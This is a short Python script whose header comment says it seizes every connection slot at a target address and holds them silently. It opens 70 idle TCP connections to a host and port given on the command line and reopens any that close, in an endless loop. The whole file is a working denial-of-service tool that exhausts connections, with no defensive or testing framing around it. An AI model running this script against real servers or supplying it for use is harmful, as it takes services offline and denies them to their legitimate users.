# Takes all places for connections at an address, says nothing there, and comes again when it is ended.
import socket
import sys
import time

ADDRESS = (sys.argv[1], int(sys.argv[2]))
# More than there are places.
COUNT = 70


def is_open(client):
    try:
        return client.recv(1) != b""
    except BlockingIOError:
        return True
    except OSError:
        return False


held = []
while True:
    held = [client for client in held if is_open(client)]
    while len(held) < COUNT:
        client = socket.create_connection(ADDRESS)
        client.setblocking(False)
        held.append(client)
    time.sleep(0.05)
